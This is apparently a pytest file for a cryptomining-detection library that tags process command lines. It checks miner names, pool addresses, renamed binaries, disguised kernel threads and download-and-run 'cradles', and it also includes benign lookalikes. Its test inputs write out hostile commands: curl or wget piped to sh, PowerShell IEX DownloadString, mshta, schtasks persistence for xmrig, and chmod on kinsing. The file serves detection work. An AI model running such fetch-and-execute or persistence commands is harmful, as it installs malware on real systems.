"""What recorded command lines say of mining, and what they must not be taken for."""

from __future__ import annotations

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from kanaria.core.facts import Knowledge
from kanaria.core.schema import from_rows
from kanaria.host.programs import COLUMNS, enrich
from kanaria.knowledge import load

FACTS = load()


def _look(facts: Knowledge, **row: object) -> dict[str, str]:
    table = enrich({"process": from_rows("process", [{"kind": "start", **row}])}, facts)["process"]
    return {name.removeprefix("mining."): value for name in COLUMNS if (value := table[name][0].as_py()) is not None}


@pytest.mark.parametrize(
    ("process", "command"),
    [
        ("/var/tmp/.x/xmrig", "/var/tmp/.x/xmrig -o pool.example.com:3333"),
        ("C:\\Windows\\Temp\\svchost.exe", "C:\\Windows\\Temp\\svchost.exe -o stratum+ssl://pool.example.com:443 -u w -p x"),
        ("/tmp/a", "/tmp/a --donate-level 1"),
        ("/tmp/a", "/tmp/a -a rx/0 -o 203.0.113.50:3333"),
        ("/usr/bin/sudo", "sudo -u nobody nohup ./xmrig"),
        ("/usr/bin/docker", "docker run -d image -o stratum+tcp://pool.example.com:3333"),
        ("kdevtmpfsi", "kdevtmpfsi"),
        ("C:\\Users\\a\\T-Rex.exe", None),
    ],
)  # fmt: skip
def test_mining_programs(process: str, command: str | None) -> None:
    found = _look(FACTS, process=process, command=command)
    assert found["program"] and found["program_because_en"] and found["program_because_ja"]


def test_a_renamed_file_is_known_by_its_version_information() -> None:
    found = _look(FACTS, process="C:\\Windows\\svchost.exe", command="svchost.exe", original_name="xmrig.exe")
    assert found["program"] == "svchost.exe" and "xmrig.exe" in found["program_because_en"]
    assert _look(FACTS, process="C:\\a.exe", command="a.exe", original_name="notepad.exe") == {}


def test_the_pool_is_named() -> None:
    assert _look(FACTS, process="/tmp/a", command="/tmp/a -o stratum+tcp://pool.example.com:3333")["pool"] == (
        "pool.example.com:3333"
    )


@pytest.mark.parametrize(
    ("process", "command"),
    [
        ("/usr/bin/grep", "grep -r xmrig /etc"),
        ("/usr/bin/vim", "vim xmrig.json"),
        ("/usr/bin/journalctl", "journalctl -u xmrig -o short"),
        ("/usr/bin/pkill", "pkill -9 kdevtmpfsi"),
        ("/usr/bin/python3", "python3 train.py --nicehash-is-not-here -o model:1"),
        ("/usr/bin/ssh", "ssh -o ServerAliveInterval=60 host.example:22"),
        ("/usr/bin/mysqldump", "mysqldump --user=root -o db.example:3306"),
        ("/opt/uminer/excel.exe", "excel.exe budget.xlsx"),
        ("/usr/bin/curl", "curl -o page.html https://www.example.org:8443/"),
        ("/usr/bin/apt", "apt-cache show cpuminer"),
    ],
)
def test_what_is_no_mining_program(process: str, command: str) -> None:
    assert "program" not in _look(FACTS, process=process, command=command)


@pytest.mark.parametrize(
    ("command", "said"),
    [
        ("/usr/bin/systemctl enable --now moneroocean_miner.service", "MoneroOcean set-up"),
        ("wget -q https://example.org/xmrig.tar.gz -O /tmp/x", "XMRig"),
        ("docker pull example/xmrig:latest", "XMRig"),
        ("schtasks.exe /create /sc minute /tn a /tr C:\\Temp\\xmrig.exe", "XMRig"),
        ("chmod +x /tmp/kinsing", "kinsing"),
    ],
)
def test_who_fetches_a_miner_or_sets_it_to_start(command: str, said: str) -> None:
    assert said in _look(FACTS, process=command.split()[0], command=command)["named"]


@pytest.mark.parametrize(
    ("command", "cradle"),
    [
        ("curl -fsSL http://203.0.113.9/x.sh | sh", "http://203.0.113.9/x.sh"),
        ("wget -q -O - http://203.0.113.9/x.sh|bash -s", "http://203.0.113.9/x.sh"),
        ("(curl -s http://203.0.113.9/a||wget -q -O- http://203.0.113.9/a)|sh", None),
        ("bash <(curl -s https://example.org/i.sh)", "https://example.org/i.sh"),
        ("sh -c \"$(curl -fsSL https://example.org/i.sh)\"", "https://example.org/i.sh"),
        ("powershell -c IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')", "http://203.0.113.9/a.ps1"),
        ("mshta http://203.0.113.9/a.hta", "http://203.0.113.9/a.hta"),
    ],
)  # fmt: skip
def test_scripts_that_are_fetched_and_run_at_once(command: str, cradle: str | None) -> None:
    found = _look(FACTS, process=command.split()[0], command=command).get("cradle")
    assert found if cradle is None else found == cradle


@pytest.mark.parametrize(
    "command", ["curl -O https://example.org/a.tar.gz", "curl -s https://example.org | jq .", "sh -c ls"]
)
def test_fetching_alone_is_no_cradle(command: str) -> None:
    assert "cradle" not in _look(FACTS, process="sh", command=command)


def test_a_false_kernel_thread() -> None:
    assert "kernel thread" in _look(FACTS, process="/tmp/.d/p", command="[kworker/0:1]")["disguise_en"]
    assert _look(FACTS, process=None, command="[kworker/0:1]") == {}


def test_the_owner_of_a_connection() -> None:
    rows = [
        {"src_ip": "192.0.2.7", "dst_ip": "203.0.113.50", "process": name}
        for name in ("/tmp/xmrig", "/usr/bin/ssh", None)
    ]
    found = enrich({"connection": from_rows("connection", rows)}, FACTS)["connection"]
    assert found["mining.program"].to_pylist() == ["xmrig", None, None]


@settings(max_examples=40, deadline=None)
@given(st.text(max_size=200), st.text(max_size=40))
def test_any_command_line_is_looked_at(command: str, process: str) -> None:
    def plain(text: str) -> str:
        return text.encode("utf-8", "replace").decode()

    assert isinstance(_look(FACTS, process=plain(process), command=plain(command)), dict)
